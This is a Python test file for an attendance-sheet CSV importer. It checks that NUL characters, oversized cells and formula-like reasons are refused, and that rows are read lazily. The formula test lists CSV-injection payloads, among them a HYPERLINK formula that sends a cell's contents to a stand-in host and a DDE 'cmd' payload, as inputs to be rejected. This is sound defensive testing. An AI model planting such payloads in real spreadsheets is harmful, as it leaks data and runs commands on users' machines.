"""Reading a sheet: cells no text can hold, formulas, huge cells, and rows read as they come.

Issue 10, item 10: a NUL character or a lone surrogate in a cell, a cell of
millions of characters and a reason that a spreadsheet would run as a formula
are each refused at their row and column, never quoted; a sheet of a million
rows is read row by row (the memory is measured by
``benchmarks/import_memory.py``; here the reader is shown to be lazy).
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from pathlib import Path

import pytest

from mbprogram import ExcusedAbsence, ImportRowsError, Register
from mbprogram.services.attendance_import import MAX_LISTED_ROWS
from mbprogram.storage._attendance_sheet import MAX_CELL, read_sheet
from mbprogram.storage.attendance_csv import (
    attendance_rows,
    import_attendance,
    import_attendance_text,
)
from tests.builders import make_register, session_id, stamp

LATER = stamp(60)
FORMULA_REFUSED = (
    "row 2, column grunn: starts with =, +, - or @, which a spreadsheet reads as a formula; "
    "a reason is kept as written, so write it without that first character"
)


def refused(register: Register, text: str) -> list[str]:
    """Import ``text``, expect a refusal that changed nothing, and return its problem lines."""
    before = register.copy()
    with pytest.raises(ImportRowsError) as caught:
        import_attendance_text(register, text, by=LATER)
    assert before == register
    return [str(p) for p in caught.value.problems]


# -- cells that no text can hold -----------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("grunn", "Lege\x00time"),
        ("grunn", "Legetime \ud800"),
        ("deltaker", "S-01\x00"),
        ("merknad", "kom \x00 sent"),  # even in a column that is otherwise ignored
    ],
)
def test_a_nul_character_or_lone_surrogate_is_refused_at_its_cell_without_quoting_it(
    column: str, cell: str
) -> None:
    cells = {"deltaker": "S-01", "økt": session_id(1), "fravær": "F", "grunn": "", "merknad": ""}
    cells[column] = cell
    text = ";".join(cells) + "\n" + ";".join(cells.values()) + "\n"
    problems = refused(make_register(), text)
    assert (
        f"row 2, column {column}: the cell holds a NUL character or a lone surrogate (not shown), "
        "which no text can keep; save the sheet as 'CSV UTF-8' again"
    ) == problems[0]
    assert not any("Lege" in p or "sent" in p for p in problems)


def test_a_file_with_the_bytes_of_a_lone_surrogate_is_read_as_windows_1252_not_a_bare_error(
    tmp_path: Path,
) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_bytes(
        f"student;session;status;reason\nS-01;{session_id(1)};F;Lege \ud800\n".encode(
            "utf-8", "surrogatepass"
        )
    )
    register = make_register()
    import_attendance(register, sheet, by=LATER)  # not UTF-8, so read as Windows-1252
    mark = next(a.mark for a in register.student("S-01").attendance)
    assert isinstance(mark, ExcusedAbsence)
    assert "\ud800" not in mark.reason


@pytest.mark.parametrize("length", [MAX_CELL + 1, 200_000, 10_000_000])
def test_a_huge_cell_is_refused_as_too_long_never_blamed_on_a_quote(length: int) -> None:
    text = f"deltaker;økt;timer;merknad\nS-01;{session_id(1)};4;{'x' * length}\n"
    [problem] = refused(make_register(), text)
    assert "quote" not in problem
    assert f"a cell holds at most {MAX_CELL}" in problem
    assert problem.startswith("row 2")


def test_a_quote_that_is_never_closed_is_still_blamed_on_the_quote() -> None:
    text = f'deltaker;økt;timer;merknad\nS-01;{session_id(1)};4;"kom sent\n' + "x\n" * 70_000
    [problem] = refused(make_register(), text)
    assert problem.startswith("row 2: not readable as CSV (a quote that is not closed")


# -- formulas (the register keeps a reason as written) -------------------------------------


@pytest.mark.parametrize(
    "reason",
    ['=HYPERLINK("http://x.example/?"&A1,"Klikk")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"],
)
def test_a_reason_that_a_spreadsheet_would_run_as_a_formula_is_refused_at_its_cell(
    reason: str,
) -> None:
    row = ["S-01", session_id(1), "F", reason]
    text = "deltaker;økt;fravær;grunn\n" + _csv_line(row)
    assert [FORMULA_REFUSED] == refused(make_register(), text)


def test_a_reason_with_such_a_character_inside_is_kept_as_written() -> None:
    register = make_register()
    text = "deltaker;økt;fravær;grunn\n" + _csv_line(["S-01", session_id(1), "F", "lege = 14:00"])
    import_attendance_text(register, text, by=LATER)
    assert [ExcusedAbsence("lege = 14:00")] == [a.mark for a in register.student("S-01").attendance]


def _csv_line(cells: list[str]) -> str:
    return (
        ";".join('"' + c.replace('"', '""') + '"' if ";" in c or '"' in c else c for c in cells)
        + "\n"
    )


def test_only_the_spreadsheet_writer_writes_csv_or_spreadsheet_files() -> None:
    """Only reports/spreadsheet.py writes CSV and workbooks, and it keeps formulas out."""
    src = Path(__file__).resolve().parents[2] / "src" / "mbprogram"
    writers = ("csv.writer", "DictWriter", "to_csv", "to_excel", "openpyxl", "xlsxwriter")
    found = [
        f"{path.relative_to(src)}: {w}"
        for path in src.rglob("*.py")
        for w in writers
        if w in path.read_text(encoding="utf-8")
        and path.relative_to(src) != Path("reports", "spreadsheet.py")
    ]
    assert [] == found


# -- the sheet is read as its rows are asked for ---------------------------------------------


def test_rows_are_read_from_the_lines_as_they_are_asked_for() -> None:
    read: list[int] = []

    def lines() -> Iterator[str]:
        yield "deltaker;økt;timer\n"
        for n in itertools.count(2):
            read.append(n)
            yield f"S-01;{session_id(1)};4\n"

    rows = attendance_rows(lines())
    first = list(itertools.islice(rows, 3))
    assert [2, 3, 4] == [r.number for r in first]
    assert len(read) <= 4  # a line or so ahead, never the whole (endless) sheet


def test_a_row_that_is_not_csv_deep_in_the_sheet_is_met_when_it_is_reached() -> None:
    good = f"S-01;{session_id(1)};4\n"
    rows = attendance_rows("deltaker;økt;timer\n" + good * 3 + '"S-02;x\n' + good)
    assert [2, 3, 4] == [r.number for r in itertools.islice(rows, 3)]
    with pytest.raises(ImportRowsError, match="row 5: not readable as CSV"):
        next(rows)


def test_the_header_is_read_without_reading_the_rows() -> None:
    def lines() -> Iterator[str]:
        yield "deltaker;økt;timer;merknad\n"
        raise AssertionError("a row was read")

    sheet = read_sheet(lines())
    assert ["deltaker", "økt", "timer", "merknad"] == list(sheet.columns.values())


def test_a_sheet_of_many_bad_rows_lists_the_first_thousand_and_counts_the_rest() -> None:
    text = "deltaker;økt;timer\n" + "S-99;SES-01;4\n" * (MAX_LISTED_ROWS + 500)
    problems = refused(make_register(), text)
    assert MAX_LISTED_ROWS + 1 == len(problems)
    assert "row 1001, column deltaker: no student with this id" == problems[MAX_LISTED_ROWS - 1]
    assert (
        f"row {MAX_LISTED_ROWS + 2}: and 500 more bad rows from here on, not listed (only the "
        f"first {MAX_LISTED_ROWS} are); correct these and import again to see them"
    ) == problems[-1]


def test_a_huge_cell_where_an_id_belongs_is_refused_at_its_cell_not_by_a_record_validator() -> None:
    text = f"deltaker;økt;timer\n{'S' * 20_000};{session_id(1)};4\n"
    assert [
        f"row 2, column deltaker: a cell of 20000 characters; a cell holds at most {MAX_CELL}",
        "row 2, column deltaker: no student with this id",
    ] == refused(make_register(), text)
